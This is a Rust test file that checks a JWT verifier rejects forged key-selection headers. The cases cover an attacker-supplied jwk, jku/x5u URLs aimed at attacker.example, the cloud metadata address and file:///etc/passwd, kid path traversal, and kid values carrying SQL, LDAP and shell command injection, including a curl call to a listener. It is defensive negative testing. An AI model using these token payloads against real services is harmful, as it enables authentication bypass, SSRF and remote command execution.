//! Catalog section B: key-selection headers (`jwk`, `jku`, `x5u`, `x5c`, `kid`).

use super::*;

#[test]
fn section_b_key_selection_headers() {
    let f = fx();
    let payload = claims_with(&[]);
    let mut t = Vec::new();
    t.push(case("B0", "control", good(&f.rs), Accept));
    t.push(hs_case("B0", "control", good(&f.hs), Accept));

    // B1: embedded jwk of the attacker's key, with and without our kid.
    let evil_jwk = f.evil_rs.verifying_key().to_jwk().unwrap().clone();
    for (what, h) in [
        (
            "jwk with kid jwt_tool",
            json!({"alg":"RS256","typ":"at+jwt","jwk":{"kty":"RSA","kid":"jwt_tool","use":"sig","n":evil_jwk.n,"e":evil_jwk.e}}),
        ),
        (
            "jwk and our kid",
            json!({"alg":"RS256","typ":"at+jwt","kid":"rsa-1","jwk":evil_jwk}),
        ),
    ] {
        let token = sign_raw(&f.evil_rs, h.to_string().as_bytes(), &payload).unwrap();
        t.push(case("B1", what, token, reject(FORBIDDEN)));
    }

    // B2: jku / x5u pointing anywhere (the request count is asserted in crates/verify/tests).
    for url in [
        "https://attacker.example/jwks.json",
        "http://127.0.0.1:1/jwks.json",
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "https://auth.example/redirect?to=https://attacker.example/jwks.json",
    ] {
        for param in ["jku", "x5u"] {
            let mut h = json!({"alg":"RS256","typ":"at+jwt","kid":"rsa-1"});
            h[param] = json!(url);
            let token = sign_raw(&f.evil_rs, h.to_string().as_bytes(), &payload).unwrap();
            t.push(case(
                "B2",
                format!("{param} {url}"),
                token,
                reject(FORBIDDEN),
            ));
        }
    }

    // B3: x5c chain (the header is refused by name, whatever the certificate).
    let cert = b64s(b"self-signed certificate DER would go here");
    let h = json!({"alg":"RS256","typ":"at+jwt","kid":"rsa-1","x5c":[cert]});
    t.push(case(
        "B3",
        "x5c",
        sign_raw(&f.evil_rs, h.to_string().as_bytes(), &payload).unwrap(),
        reject(FORBIDDEN),
    ));
    let h = json!({"alg":"RS256","typ":"at+jwt","kid":"rsa-1","x5t#S256":"abc"});
    t.push(case(
        "B3",
        "x5t#S256 only (informational, not key material)",
        sign_raw(&f.rs, h.to_string().as_bytes(), &payload).unwrap(),
        Accept,
    ));

    // B4: kid path traversal, with the catalog's exact header, HMAC keyed by "" and 0x00.
    let b4 =
        "eyJhbGciOiJIUzI1NiIsInR5cCI6ImF0K2p3dCIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0";
    assert_eq!(
        b64::decode(b4).unwrap(),
        header("HS256", "../../../../../../dev/null").as_bytes()
    );
    let p = b64s(&payload);
    for secret in [&b""[..], b"\0"] {
        t.push(hs_case(
            "B4",
            format!("kid ../../dev/null, key {secret:?}"),
            hmac_token(b4, &p, secret),
            reject(UNKNOWN_KID),
        ));
        for kid in ["/dev/null", "/invalid_path"] {
            t.push(hs_case(
                "B4",
                format!("kid {kid}, key {secret:?}"),
                hmac_token(&b64s(header("HS256", kid)), &p, secret),
                reject(UNKNOWN_KID),
            ));
        }
    }

    // B5: kid injection payloads, with the catalog's exact SQL header keyed by "1".
    let b5 = "eyJhbGciOiJIUzI1NiIsInR5cCI6ImF0K2p3dCIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnMSc7LS0ifQ";
    assert_eq!(
        b64::decode(b5).unwrap(),
        header("HS256", "x' UNION SELECT '1';--").as_bytes()
    );
    t.push(hs_case(
        "B5",
        "kid SQL injection",
        hmac_token(b5, &p, b"1"),
        reject(UNKNOWN_KID),
    ));
    for kid in [
        "|sleep 10",
        "| curl http://listener/RCE_in_kid",
        "*)(uid=*",
        "$(id)",
        "`id`",
    ] {
        t.push(hs_case(
            "B5",
            format!("kid {kid:?}"),
            hmac_token(&b64s(header("HS256", kid)), &p, b"1"),
            reject(UNKNOWN_KID),
        ));
        t.push(case(
            "B5",
            format!("kid {kid:?} (asymmetric)"),
            sign_raw(&f.evil_rs, header("RS256", kid).as_bytes(), &payload).unwrap(),
            reject(UNKNOWN_KID),
        ));
    }

    // B6: kid abuse.
    t.push(case(
        "B6",
        "unknown kid",
        sign_raw(&f.evil_rs, header("RS256", "rsa-2").as_bytes(), &payload).unwrap(),
        reject(UNKNOWN_KID),
    ));
    t.push(hs_case(
        "B6",
        "kid of the HS key with alg ES256",
        signed(&f.evil_es, &payload),
        reject(ALG),
    ));
    t.push(case(
        "B6",
        "kid of an ES256 key with alg HS256",
        hmac_token(&b64s(header("HS256", "k1")), &p, b"x"),
        reject(ALG),
    ));
    t.push(case(
        "B6",
        "kid of the ES256 key with alg RS256, signed by our RSA key",
        sign_raw(&f.rs, header("RS256", "k1").as_bytes(), &payload).unwrap(),
        reject(&[K::AlgorithmMismatch]),
    ));
    t.push(case(
        "B6",
        "kid of the RS256 key with alg PS256, signed by our PS key",
        sign_raw(&f.ps, header("PS256", "rsa-1").as_bytes(), &payload).unwrap(),
        reject(&[K::AlgorithmMismatch]),
    ));
    for (what, kid) in [
        ("number", json!(1)),
        ("object", json!({"k": "k1"})),
        ("array", json!(["k1"])),
        ("null", json!(null)),
    ] {
        let h = json!({"alg":"ES256","typ":"at+jwt","kid":kid}).to_string();
        t.push(case(
            "B6",
            format!("kid as {what}"),
            sign_raw(&f.es, h.as_bytes(), &payload).unwrap(),
            reject(&[K::MissingKeyId]),
        ));
    }
    let no_kid = json!({"alg":"ES256","typ":"at+jwt"}).to_string();
    t.push(case(
        "B6",
        "kid missing",
        sign_raw(&f.es, no_kid.as_bytes(), &payload).unwrap(),
        reject(&[K::MissingKeyId]),
    ));
    let big_kid = "k".repeat(64 * 1024);
    t.push(case(
        "B6",
        "64 KiB kid",
        sign_raw(&f.es, header("ES256", &big_kid).as_bytes(), &payload).unwrap(),
        reject(&[K::TooLarge]),
    ));
    t.push(case(
        "B6",
        "kid with NUL",
        sign_raw(&f.es, header("ES256", "k1\u{0}").as_bytes(), &payload).unwrap(),
        reject(UNKNOWN_KID),
    ));
    t.push(case(
        "B6",
        "kid with trailing space",
        sign_raw(&f.es, header("ES256", "k1 ").as_bytes(), &payload).unwrap(),
        reject(UNKNOWN_KID),
    ));
    t.push(case(
        "B6",
        "kid of a different case",
        sign_raw(&f.es, header("ES256", "K1").as_bytes(), &payload).unwrap(),
        reject(UNKNOWN_KID),
    ));

    run("B", t);
}
